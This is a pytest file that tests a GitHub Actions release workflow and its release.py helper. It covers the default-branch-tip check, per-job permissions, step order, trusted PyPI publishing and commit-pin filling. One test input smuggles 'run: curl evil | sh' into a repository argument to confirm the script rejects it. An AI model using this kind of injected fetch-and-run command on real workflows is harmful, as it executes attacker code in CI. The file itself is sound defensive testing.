"""The release workflow (.github/workflows/release.yml) and docker/release.py.

A release runs only from the default branch's tip: the first job's check is run here as the runner runs it,
with a fake `gh` answering for GitHub, against refs an attacker or a hurried maintainer could dispatch from.
Every other job waits for that check, holds only the permissions it uses, and the irreversible steps (the
PyPI upload, publishing the immutable release) come last. The release commits are made here by the
workflow's own script in a scratch repository: they touch nothing under .github/workflows (the workflow
token may not push such commits) and pin the examples to the commit whose action pulls the image.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from .test_packaging import run, tool

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW = yaml.safe_load((ROOT / ".github" / "workflows" / "release.yml").read_text())
JOBS = WORKFLOW["jobs"]
VERSION = "v" + tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["version"]
SHA, OTHER = "a1" * 20, "b2" * 20
IMAGE_REF = "ghcr.io/acme/widgets@sha256:" + "0123456789abcdef" * 4
PYPA = "pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e"  # v1.13.0
ATTEST = "actions/attest-build-provenance@a2bbfa25375fe432b6a289bc6b6cd05ecd0c4c32"  # v4.1.0


def release_py(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "docker" / "release.py"), *args], capture_output=True,
                          text=True, timeout=60, cwd=cwd)


def step(job: str, name: str) -> dict:
    return next(s for s in JOBS[job]["steps"] if s.get("name") == name)


def uses(job: str, prefix: str) -> dict:
    (found,) = [s for s in JOBS[job]["steps"] if s.get("uses", "").startswith(prefix)]
    return found


def bash(script: str, env: dict, cwd: Path, tmp_path: Path) -> subprocess.CompletedProcess:
    """A `run:` step as the runner runs it: bash --noprofile --norc -eo pipefail {0}."""
    path = tmp_path / "step.sh"
    path.write_text(script)
    return subprocess.run([shutil.which("bash"), "--noprofile", "--norc", "-eo", "pipefail", str(path)], env=env,
                          cwd=cwd, capture_output=True, text=True, timeout=120)


# --- where a release may run from ---------------------------------------------------------------------

@pytest.mark.parametrize(("ref", "sha", "branch", "tip", "message"), [
    ("refs/heads/feature", SHA, "main", SHA, "not from the default branch"),  # any branch a writer can push
    ("refs/heads/main-next", SHA, "main", SHA, "not from the default branch"),  # a lookalike name
    ("refs/tags/v9.9.9", SHA, "main", SHA, "not from the default branch"),  # a tag on any commit
    ("refs/pull/7/merge", SHA, "main", SHA, "not from the default branch"),
    ("refs/heads/main", SHA, "main", OTHER, "is not the tip of 'main'"),  # main moved on: an older commit
    ("refs/heads/main", SHA, "main", "", "the tip of 'main' is unknown"),  # GitHub gave no answer
    ("refs/heads/main", SHA, "main", "null", "the tip of 'main' is unknown"),
    ("refs/heads/main", SHA.upper(), "main", SHA.upper(), "is not a full commit id"),
    ("refs/heads/main", SHA[:12], "main", SHA[:12], "is not a full commit id"),
    ("refs/heads/", SHA, "", SHA, "the event names no default branch"),
])
def test_a_release_from_anything_but_the_default_branch_tip_is_refused(ref, sha, branch, tip, message):
    proc = release_py("check-ref", ref, sha, branch, tip)
    assert proc.returncode == 2 and len(proc.stdout.splitlines()) == 1 and message in proc.stdout, proc.stdout
    assert proc.stdout.startswith("::error::")


def test_the_default_branch_tip_may_release():
    proc = release_py("check-ref", "refs/heads/trunk", SHA, "trunk", SHA)
    assert proc.returncode == 0 and proc.stdout == f"releasing {SHA}, the tip of trunk\n"


def fake_gh(tmp_path: Path, answer: str, status: int = 0) -> str:
    """A `gh` on PATH that records its arguments and prints `answer` (GitHub's tip), or fails."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "gh").write_text(f'#!/bin/sh\necho "$@" >> "{tmp_path}/gh.log"\nprintf "%s\\n" "{answer}"\n'
                                f"exit {status}\n")
    (bin_dir / "gh").chmod(0o755)
    return f"{bin_dir}:{os.environ['PATH']}"


@pytest.mark.parametrize(("ref", "sha", "tip", "gh_status", "ok"), [
    ("refs/heads/main", SHA, SHA, 0, True),
    ("refs/heads/feature", SHA, SHA, 0, False),
    ("refs/tags/v0.0.1", SHA, SHA, 0, False),
    ("refs/heads/main", SHA, OTHER, 0, False),
    ("refs/heads/main", SHA, SHA, 1, False),  # gh failed (network, token): no release
])
def test_the_check_step_asks_github_for_the_tip(tmp_path, ref, sha, tip, gh_status, ok):
    """The step itself, with the env the runner gives it: the default branch comes from the event, the tip
    from GitHub at run time, and the ref and commit are the run's own."""
    check = step("check", "Run only from the default branch's tip")
    assert check["env"] == {"GH_TOKEN": "${{ github.token }}",
                            "DEFAULT_BRANCH": "${{ github.event.repository.default_branch }}"}
    env = {"PATH": fake_gh(tmp_path, tip, gh_status), "HOME": str(tmp_path), "GITHUB_REF": ref, "GITHUB_SHA": sha,
           "GITHUB_REPOSITORY": "acme/widgets", "DEFAULT_BRANCH": "main", "GH_TOKEN": "ghs_x"}
    proc = bash(check["run"], env, ROOT, tmp_path)
    assert (proc.returncode == 0) is ok, proc.stdout + proc.stderr
    assert (tmp_path / "gh.log").read_text() == "api repos/acme/widgets/git/ref/heads/main --jq .object.sha\n"


def test_every_job_waits_for_the_check_and_none_can_skip_it():
    """A job runs only when all it needs succeeded, unless its `if:` says otherwise (always(), failure()):
    so no job has an `if:`, and every job but the check reaches the check through `needs`."""
    assert WORKFLOW[True] == {"workflow_dispatch": WORKFLOW[True]["workflow_dispatch"]}  # yaml reads `on:` as True
    first = [s.get("name") or s.get("uses") for s in JOBS["check"]["steps"]]
    assert first[1] == "Run only from the default branch's tip"  # right after the checkout

    def reaches_check(name: str) -> bool:
        needs = JOBS[name].get("needs", [])
        needs = [needs] if isinstance(needs, str) else needs
        return name == "check" or any(reaches_check(n) for n in needs)

    assert all(reaches_check(name) for name in JOBS)
    assert [name for name, job in JOBS.items() if "if" in job] == []
    assert [s for job in JOBS.values() for s in job["steps"] if "always()" in str(s.get("if", ""))
            and "logout" not in str(s.get("run", ""))] == []


# --- who may do what, in which order ------------------------------------------------------------------

def test_each_job_holds_only_the_permissions_it_uses():
    assert WORKFLOW["permissions"] == {}
    assert {name: job["permissions"] for name, job in JOBS.items()} == {
        "check": {"contents": "read"},
        "image": {"contents": "read", "packages": "write", "id-token": "write", "attestations": "write"},
        "tag": {"contents": "write"},
        "dist": {"contents": "read"},
        "draft": {"contents": "write"},
        "pypi": {"id-token": "write"},
        "publish": {"contents": "write"},
    }
    assert JOBS["pypi"]["environment"]["name"] == "pypi"  # the trusted publisher on PyPI names it


def test_the_irreversible_steps_come_last():
    """Image and tags first (a pushed image tag is overwritten by a rerun; a tag is deleted by hand while its
    release is a draft), then the draft release, then PyPI (a version can never be uploaded twice), then
    publishing the release (its tag and assets lock)."""
    needs = {name: job.get("needs") for name, job in JOBS.items()}
    assert needs == {"check": None, "image": "check", "tag": "image", "dist": "tag",
                     "draft": ["image", "tag", "dist"], "pypi": "draft", "publish": "pypi"}


def test_the_image_is_checked_published_attested_and_checked_again():
    runs = [s.get("run", "") for s in JOBS["image"]["steps"]]
    build = next(i for i, r in enumerate(runs) if "docker build" in r)
    push = next(i for i, r in enumerate(runs) if "docker push" in r)
    checks = [i for i, r in enumerate(runs) if "release.py check-packages requirements.lock" in r]
    attest = JOBS["image"]["steps"].index(uses("image", "actions/attest-build-provenance@"))
    logout = next(i for i, r in enumerate(runs) if "docker logout" in r)
    assert "--file Dockerfile" in runs[build] and build < checks[0] < push < attest < logout < checks[1]
    publish = JOBS["image"]["steps"][push]
    assert publish["id"] == "publish" and "RepoDigests" in runs[push]
    assert uses("image", "actions/attest-build-provenance@")["uses"] == ATTEST
    assert uses("image", "actions/attest-build-provenance@")["with"] == {
        "subject-name": "${{ steps.publish.outputs.name }}", "subject-digest": "${{ steps.publish.outputs.digest }}",
        "push-to-registry": True, "create-storage-record": False}
    assert JOBS["image"]["steps"][logout]["if"] == "${{ always() }}"
    assert 'docker pull "$IMAGE_REF"' in runs[checks[1]] and 'docker run --rm "$IMAGE_REF" --version' in runs[checks[1]]
    assert JOBS["image"]["steps"][checks[1]]["env"]["IMAGE_REF"] == "${{ steps.publish.outputs.image }}"
    assert JOBS["image"]["outputs"] == {"image": "${{ steps.publish.outputs.image }}"}


def test_pypi_gets_the_tags_build_by_trusted_publishing_with_attestations():
    checkout = uses("dist", "actions/checkout@")
    assert checkout["with"] == {"ref": "${{ needs.tag.outputs.commit }}", "persist-credentials": False}
    build = step("dist", "Build with the locked build tools")["run"]
    assert "--require-hashes -r docker/build-requirements.lock" in build and "-m build --no-isolation" in build
    assert uses("dist", "actions/upload-artifact@")["with"]["name"] == "dist"
    for job in ("draft", "pypi"):
        assert uses(job, "actions/download-artifact@")["with"] == {"name": "dist", "path": "dist/"}
    publish = uses("pypi", "pypa/gh-action-pypi-publish@")
    assert publish["uses"] == PYPA
    assert publish["with"] == {"packages-dir": "dist/", "attestations": True}  # no password: trusted publishing


def test_the_release_is_a_draft_until_pypi_has_the_files_then_checked_immutable():
    create = step("draft", "Create the draft")["run"]
    assert 'gh release create "$VERSION" dist/*' in create and "--draft --verify-tag" in create
    publish = step("publish", "Publish, and check that it is immutable")["run"]
    assert '--draft=false' in publish and "--jq .immutable" in publish and 'if [ "$immutable" != true ]' in publish


# --- the release commits ------------------------------------------------------------------------------

def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True).stdout.strip()


@pytest.fixture
def released(tmp_path) -> dict:
    """The tag job's commit step, run by bash in a scratch repository holding this commit's files."""
    repo = tmp_path / "repo"
    for name in ("action.yml", "README.md", "Dockerfile"):
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ROOT / name, repo / name)
    for name in ("docker", "examples", ".github", "gate"):
        shutil.copytree(ROOT / name, repo / name, ignore=shutil.ignore_patterns("__pycache__"))
    git(repo, "init", "-q", "-b", "main")
    for key, value in (("user.name", "t"), ("user.email", "t@example.invalid"), ("commit.gpgsign", "false")):
        git(repo, "config", key, value)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "source")
    source = git(repo, "rev-parse", "HEAD")
    output = tmp_path / "github_output"
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "VERSION": VERSION, "IMAGE_REF": IMAGE_REF,
           "GITHUB_REPOSITORY": "acme/widgets", "GITHUB_OUTPUT": str(output)}
    commit = step("tag", "Commit the action that pulls the image, then the examples that pin it")
    assert commit["env"] == {"IMAGE_REF": "${{ needs.image.outputs.image }}"}
    proc = bash(commit["run"], env, repo, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    head = git(repo, "rev-parse", "HEAD")
    action = git(repo, "rev-parse", "HEAD~1")
    assert git(repo, "rev-parse", "HEAD~2") == source
    assert output.read_text() == f"commit={head}\n"
    return {"repo": repo, "source": source, "action": action, "head": head}


def changed(repo: Path, commit: str) -> set[str]:
    return set(git(repo, "diff", "--name-only", f"{commit}~1", commit).splitlines())


def test_the_release_commits_touch_no_workflow_and_pin_the_action_commit(released):
    repo, action = released["repo"], released["action"]
    assert changed(repo, action) == {"action.yml", "docker/release.Dockerfile"}
    examples = {str(p.relative_to(repo)) for p in (repo / "examples").rglob("*.yml")}
    assert changed(repo, released["head"]) == examples | {"README.md"}
    assert not any(name.startswith(".github/") for name in changed(repo, action) | changed(repo, released["head"]))
    assert yaml.safe_load((repo / "action.yml").read_text())["runs"]["image"] == "docker/release.Dockerfile"
    assert [line for line in (repo / "docker" / "release.Dockerfile").read_text().splitlines()
            if not line.startswith("#")] == [f"FROM {IMAGE_REF}"]
    readme = (repo / "README.md").read_text()
    pins = set()
    for path in (repo / "examples").rglob("*.yml"):
        text = path.read_text()
        assert "0" * 40 not in text
        pins |= set(re.findall(r"uses: (acme/widgets[^@\s]*)@([0-9a-f]{40}) # (\S+)\n", text))
        if path.parent.name == "reusable":
            assert "```yaml\n" + text + "```" in readme
    assert {(name, commit, version) for name, commit, version in pins} == {
        ("acme/widgets", action, VERSION), ("acme/widgets/gate", action, VERSION),
        ("acme/widgets/.github/workflows/reusable-submit.yml", action, VERSION),
        ("acme/widgets/.github/workflows/reusable-poll.yml", action, VERSION)}
    assert "0" * 40 not in readme


def test_the_pinned_examples_pass_every_linter(released):
    """What users copy from a release: the same linters, on the files with the pins filled in."""
    files = [str(p) for p in (released["repo"] / "examples").rglob("*.yml")]
    proc = run(tool("actionlint"), "-shellcheck", tool("shellcheck"), *files)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = run(tool("zizmor"), "--offline", "--persona", "pedantic", "--no-progress", *files)
    assert proc.returncode == 0 and "No findings to report" in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    proc = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files)
    assert proc.returncode == 0, proc.stdout + proc.stderr


PLACEHOLDER = f"uses: batch-review/batch-review@{'0' * 40} # {VERSION} (pinned by the release)\n"


@pytest.mark.parametrize(("texts", "args", "message"), [
    ([PLACEHOLDER.replace(VERSION, "v9.9.9")], ("acme/widgets", SHA, VERSION), "a placeholder is for v9.9.9"),
    (["uses: batch-review/batch-review@v1 # no placeholder\n"], ("acme/widgets", SHA, VERSION),
     "no release placeholder to pin"),
    ([PLACEHOLDER + f"uses: other/action@{'0' * 40}\n"], ("acme/widgets", SHA, VERSION), "a zero pin is left"),
    ([PLACEHOLDER], ("acme/widgets\nrun: curl evil | sh", SHA, VERSION), "is not OWNER/NAME"),
    ([PLACEHOLDER], ("acme/widgets", SHA.upper(), VERSION), "is not 40 lowercase hex digits"),
    ([PLACEHOLDER], ("acme/widgets", SHA + "\nrun: x", VERSION), "is not 40 lowercase hex digits"),
    ([PLACEHOLDER], ("acme/widgets", SHA, "1.2.3"), "is not vMAJOR.MINOR.PATCH"),
    ([PLACEHOLDER, "no placeholder here\n"], ("acme/widgets", SHA, VERSION), "no release placeholder to pin"),
])
def test_pin_refuses_what_it_cannot_pin_and_writes_nothing(tmp_path, texts, args, message):
    paths = []
    for i, text in enumerate(texts):
        paths.append(tmp_path / f"f{i}.yml")
        paths[-1].write_text(text)
    proc = release_py("pin", *args, *map(str, paths))
    assert proc.returncode == 2 and len(proc.stdout.splitlines()) == 1 and message in proc.stdout, proc.stdout
    assert [p.read_text() for p in paths] == texts  # all files are checked before any is written


def test_pin_fills_in_every_placeholder_of_the_version(tmp_path):
    path = tmp_path / "w.yml"
    path.write_text(PLACEHOLDER + PLACEHOLDER.replace("@", "/gate@"))
    assert release_py("pin", "acme/widgets", SHA, VERSION, str(path)).returncode == 0
    assert path.read_text() == (f"uses: acme/widgets@{SHA} # {VERSION}\n"
                                f"uses: acme/widgets/gate@{SHA} # {VERSION}\n")
